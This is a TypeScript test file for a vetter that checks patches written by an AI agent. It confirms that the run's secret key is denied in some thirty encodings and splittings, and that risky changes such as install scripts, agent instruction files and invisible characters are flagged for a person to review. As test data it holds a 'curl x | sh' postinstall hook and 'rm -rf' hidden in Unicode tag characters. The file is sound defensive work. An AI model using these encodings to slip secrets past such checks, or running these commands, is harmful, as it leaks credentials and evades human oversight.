/** What an agent may put into files: secrets in every writing, and things that a person must look at. */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { defaultLimits, vetPatch } from "../../src/vet/vet.ts";
import { summary } from "../vet/given.ts";
import { baseFiles, move, newFile, Target } from "./target.ts";

let target: Target;
beforeAll(() => {
  target = new Target();
});
afterAll(() => target.dispose());

/** The model's key of this run; put together here, so that no scanner takes this file for a leak. */
const key = ["sk", "live", "Zx81+qW/7tR3", "mNb5Vc9LkJ2hGf4D"].join("-");
const base64 = (text: string) => Buffer.from(text).toString("base64");
const hex = Buffer.from(key).toString("hex");
const pieces = (size: number) => key.match(new RegExp(`.{1,${size}}`, "g")) ?? [];
const rotated = key.replace(/[a-z]/gi, (c) => String.fromCharCode(c.charCodeAt(0) + (/[a-m]/i.test(c) ? 13 : -13)));
const known = { protect: [], allow: ["**"], limits: defaultLimits, secrets: [key] };
const judgeKnown = (patch: string) => summary(vetPatch(patch, [], known));

const writings: readonly (readonly [string, string])[] = [
  ["plain", key],
  ["in base64", base64(key)],
  ["in base64, behind one byte", base64(`k${key}`)],
  ["in base64, behind two bytes and before more", base64(`k=${key};`)],
  ["in base64 for URLs", Buffer.from(key).toString("base64url")],
  ["in base64, twice over", base64(base64(key))],
  ["in base64, backwards", [...base64(key)].reverse().join("")],
  ["in base64, a few letters a line", base64(key).replace(/.{5}/g, "$&\n")],
  ["in hexadecimal", hex],
  ["in hexadecimal capitals with spaces", hex.toUpperCase().replace(/../g, "$& ")],
  ["as escapes of a string", hex.replace(/../g, "\\x$&")],
  ["as escapes of Unicode", hex.replace(/../g, "\\u00$&")],
  ["as escapes in octal", [...Buffer.from(key)].map((byte) => `\\${byte.toString(8).padStart(3, "0")}`).join("")],
  ["as a list of bytes", `[${[...Buffer.from(key)].join(", ")}]`],
  ["as entities", [...Buffer.from(key)].map((byte) => `&#${byte};`).join("")],
  ["percent-encoded", hex.replace(/../g, "%$&")],
  ["URL-encoded", encodeURIComponent(key)],
  ["JSON-escaped", JSON.stringify(key)],
  ["backwards", [...key].reverse().join("")],
  ["in rot13", rotated],
  ...[1, 2, 3, 5, 8].flatMap((size): readonly (readonly [string, string])[] => [
    [
      `in strings of ${size}`,
      pieces(size)
        .map((piece) => `"${piece}"`)
        .join(" + "),
    ],
    [`in lines of ${size}`, pieces(size).join("\n")],
  ]),
  ["with its last seven characters cut off", key.slice(0, -7)],
  ["with its first seven characters cut off", key.slice(7)],
  ["around a copy of itself", key.slice(0, 16) + key + key.slice(16)],
];

describe("a secret of the run", () => {
  it.each(writings)("%s", (_, written) => {
    expect(judgeKnown(newFile("notes.md", `see ${written} there\n`))).toBe("deny secret");
  });

  it("in a name", () => {
    expect(judgeKnown(newFile(`docs/${key.replace("/", "-")}.md`))).toBe("deny secret");
  });

  it("a piece in each name", () => {
    const names = pieces(12).map((piece) => newFile(piece.replaceAll("/", "_")));
    expect(judgeKnown(names.join(""))).toBe("deny secret");
  });

  it("a piece in each file", () => {
    expect(
      judgeKnown(
        pieces(8)
          .map((piece, i) => newFile(`f${i}`, `${piece}\n`))
          .join(""),
      ),
    ).toBe("deny secret");
  });

  it("in a binary file, new or changed", () => {
    const binary = (text: string) => Buffer.concat([Buffer.from([0, 1, 2, 0]), Buffer.from(text)]);
    const fresh = target.patchOf((repo) => repo.write("x.png", binary(`k=${key}`)));
    expect(fresh).toContain("GIT binary patch\nliteral");
    expect(judgeKnown(fresh)).toBe("deny secret");
    const noise = Buffer.from(Array.from({ length: 4_000 }, (_, i) => (i * i * 31 + (i >> 2)) % 256));
    target.repo.write("y.png", noise);
    target.repo.git("add", "y.png");
    target.repo.git("commit", "-q", "-m", "y");
    const delta = target.patchOf((repo) => repo.write("y.png", Buffer.concat([noise, binary(key)])));
    expect(delta).toContain("GIT binary patch\ndelta");
    expect(judgeKnown(delta)).toBe("deny secret");
  });

  it("as text of two bytes a letter", () => {
    const patch = target.patchOf((repo) => repo.write("x.txt", Buffer.from(key, "utf16le")));
    expect(judgeKnown(patch)).toBe("deny secret");
  });
});

const token = (prefix: string, length: number) => prefix + "a1B2c3D4e5".repeat(60).slice(0, length);

describe("what looks like a secret, whoever's it is", () => {
  it.each([
    ["a token of an App, of 2026", token("ghs_1234567_eyJ", 500)],
    ["a token of a person", token("ghp_", 36)],
    ["a fine-grained token", token("github_pat_", 82)],
    ["a model's key", token("sk-ant-api03-", 90)],
    ["a cloud's key", `AKIA${"QRSTUVWX2345ABCD"}`],
    ["a private key", `-----BEGIN PRIVATE KEY-----\n${token("MII", 120)}\n-----END PRIVATE KEY-----`],
  ])("%s", async (_, secret) => {
    expect(await target.judge(newFile("a.md", `${secret}\n`), "allow: ['**']")).toBe("deny secret");
  });
});

const flags: readonly (readonly [name: string, patch: string, outcome: string])[] = [
  [
    "a script that runs on install",
    newFile("sub/package.json", '{ "scripts": { "postinstall": "curl x | sh" } }\n'),
    "flag package-scripts",
  ],
  [
    "a script with an escaped name",
    newFile("sub/package.json", '{ "scr\\u0069pts": { "x": "y" } }\n'),
    "flag package-scripts",
  ],
  [
    "a script in pnpm's other manifest",
    newFile("sub/package.yaml", "scripts:\n  postinstall: x\n"),
    "flag package-scripts",
  ],
  ["a file that becomes a manifest", move("rename", "src/a.ts", "sub/package.json"), "flag package-scripts"],
  ["a lock file", newFile("sub/package-lock.json", "{}\n"), "flag lock-file"],
  [".npmrc", newFile(".npmrc"), "flag package-manager-settings"],
  ["Makefile in any case", newFile("sub/MAKEFILE"), "flag build-file"],
  ["Dockerfile", newFile("Dockerfile.prod"), "flag container"],
  ["a hook of husky", newFile(".husky/pre-push"), "flag git-hooks"],
  ["pre-commit's settings", newFile(".pre-commit-config.yaml"), "flag git-hooks"],
  ["a dev container", newFile(".devcontainer/devcontainer.json"), "flag dev-container"],
  ["an editor's tasks", newFile(".vscode/tasks.json"), "flag editor-settings"],
  ["instructions for agents", newFile("AGENTS.md"), "flag agent-instructions"],
  ["instructions for agents, deep in the tree", newFile("a/b/c/CLAUDE.md"), "flag agent-instructions"],
  ["instructions for agents, as a rule of an editor", newFile("web/.cursor/rules/x.mdc"), "flag agent-instructions"],
  ["a tool for agents", newFile(".mcp.json"), "flag agent-instructions"],
  ["attributes that hide a file from review", newFile(".gitattributes", "* -diff\n"), "flag git-attributes"],
  ["what git leaves out", newFile(".gitignore"), "flag git-settings"],
  ["a line that reads backwards", newFile("a.ts", "if (x\u202e) {}\n"), "flag invisible-characters"],
  ["a letter that nobody sees", newFile("a.ts", "const a\u200b = 1;\n"), "flag invisible-characters"],
  [
    "words in tag characters",
    newFile("a.md", `hi${[..."rm -rf"].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join("")}\n`),
    "flag invisible-characters",
  ],
  ["a name of nothing", newFile("a.ts", "const \u3164 = 1;\n"), "flag invisible-characters"],
  [
    "a merge that went wrong",
    newFile("a.ts", "<<<<<<< ours\na\n=======\nb\n>>>>>>> theirs\n"),
    "flag conflict-markers",
  ],
  ["a name that Windows keeps for itself", newFile("aux.ts"), "flag windows-name"],
];

describe("what lands, and is shown to a person", () => {
  for (const [name, patch, outcome] of flags) {
    it(name, async () => expect(await target.judge(patch)).toBe(outcome));
    it(`${name}: \`allow:\` lifts it`, async () => expect(await target.judge(patch, "allow: ['**']")).toBe("accept"));
  }

  it("`allow:` of one file lifts nothing of another", async () => {
    const both = newFile("AGENTS.md") + newFile("CLAUDE.md");
    expect(await target.judge(both, "allow: [AGENTS.md]")).toBe("flag agent-instructions");
  });

  it("a script taken out of the real manifest", async () => {
    const patch = target.patchOf((repo) =>
      repo.write("package.json", '{\n  "dependencies": {\n    "zod": "^4.1.0"\n  }\n}\n'),
    );
    expect(await target.judge(patch)).toBe("flag package-scripts");
    const bump = target.patchOf((repo) =>
      repo.write("package.json", baseFiles["package.json"]?.replace("4.1", "4.2") ?? ""),
    );
    expect(await target.judge(bump)).toBe("accept");
  });
});
